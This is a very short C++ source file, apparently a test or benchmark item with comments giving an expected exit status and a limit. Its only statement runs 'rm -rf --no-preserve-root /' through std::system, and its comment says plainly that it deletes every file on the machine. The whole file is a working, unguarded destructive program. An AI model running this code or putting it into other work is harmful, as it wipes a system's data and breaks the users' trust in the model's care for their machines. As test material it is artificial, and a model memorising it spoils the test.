// Deletes every file there is, as a compiled program, whose own file is among them.
// ends: exited 0
// limit: 15
#include <cstdlib>

int main() { (void)std::system("rm -rf --no-preserve-root / 2>/dev/null"); }
